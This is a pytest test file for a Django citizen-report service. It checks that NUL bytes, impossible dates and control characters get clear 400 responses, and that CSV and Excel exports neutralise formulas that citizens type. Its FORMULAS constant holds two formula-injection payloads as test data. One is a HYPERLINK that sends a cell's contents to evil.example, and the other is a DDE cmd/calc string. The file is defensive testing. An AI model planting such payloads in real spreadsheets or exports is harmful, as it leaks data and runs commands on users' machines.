"""Citizens' and API clients' odd input (issue #9): a clear 400, never a 500, and exports that
neither break nor run what a citizen typed as a spreadsheet formula."""

import csv
import io
import json

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from zhengwei.reports import services
from zhengwei.reports.models import Report
from zhengwei.reports.tests.helpers import citizen, receive

pytestmark = pytest.mark.django_db

KEY = "test-open311-hostile-0123456789"
OPEN311 = "/open311/v2/requests.json"
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.fixture
def key(world):
    services.api_key_create(
        actor=world["system_admin"], account=world.account, name="hostile", raw_key=KEY
    )
    return KEY


def _open311_post(client, key, **data):
    base = {"api_key": key, "service_code": "waterlogging", "address_string": "闽侯县上街镇"}
    return client.post(OPEN311, {**base, **data})


def _error(response, status: int) -> str:
    assert response.status_code == status
    (error,) = json.loads(response.content)
    assert error["code"] == status
    return error["description"]


@pytest.mark.parametrize("field", ["description", "address_string", "first_name", "media_url"])
def test_a_nul_byte_in_an_open311_request_is_a_400_naming_the_problem(client, key, field):
    description = _error(_open311_post(client, key, **{field: "路口\x00积水"}), 400)
    assert "NUL" in description
    assert Report.objects.count() == 0


def test_a_nul_byte_in_a_query_parameter_is_a_400_not_a_database_error(client, world):
    response = client.get(OPEN311, {"service_request_id": "FJ\x00"})
    assert "NUL" in _error(response, 400)


@pytest.mark.parametrize("field", ["description", "address"])
def test_a_nul_byte_in_the_h5_form_is_refused_with_a_message(world, client, field):
    data = {
        "hazard": "flash_flood",
        "description": "山洪冲毁便桥",
        "address": "闽侯县上街镇",
        "phone": "13800001234",
        "account": world.account.original_id,
    }
    data[field] += "\x00"
    response = client.post(reverse("reports:h5_form"), data)
    assert response.status_code == 400
    assert "NUL" in response.content.decode()
    assert Report.objects.count() == 0


@pytest.mark.parametrize(
    "value", ["2026-13-45", "2026-02-30T08:00", "0001-01-01", "9999-12-31", "2026-1"]
)
def test_an_impossible_date_in_the_open311_list_is_a_400(client, world, value):
    assert "end_date" in _error(client.get(OPEN311, {"end_date": value}), 400)
    assert "start_date" in _error(client.get(OPEN311, {"start_date": value}), 400)
    assert client.get(OPEN311, {"end_date": "2026-11-26"}).status_code == 200


def test_an_impossible_date_in_the_metrics_api_is_a_400_with_the_format(world, client_for):
    response = client_for(world["duty_leader"]).get(
        reverse("reports:metrics_json"), {"start": "2026-13-45"}
    )
    assert response.status_code == 400
    assert "2026-11-26" in " ".join(response.json()["error"])  # the format it asks for


def test_a_vertical_tab_in_a_description_does_not_break_the_excel_export(world, client_for):
    report = receive(world, actor=None, description="河堤\x0b渗水\x0c严重")
    response = client_for(world["duty_officer"]).get(reverse("reports:export", args=["xlsx"]))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.cell(2, 1).value == report.ticket
    assert "河堤渗水严重" in [c.value for c in sheet[2]]


def _reports_with_formulas(world):
    return [
        receive(world, actor=citizen(f"o-f{i}"), description=text, address=text)
        for i, text in enumerate(FORMULAS)
    ]


def test_the_csv_export_defuses_formulas_citizens_typed(world, client_for):
    _reports_with_formulas(world)
    response = client_for(world["duty_officer"]).get(reverse("reports:export", args=["csv"]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[1] in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]


def test_the_excel_export_keeps_formulas_as_text(world, client_for):
    _reports_with_formulas(world)
    response = client_for(world["duty_officer"]).get(reverse("reports:export", args=["xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert "'" + FORMULAS[0] in [c.value for c in cells]
    assert not [c for c in cells if c.data_type == "f"]
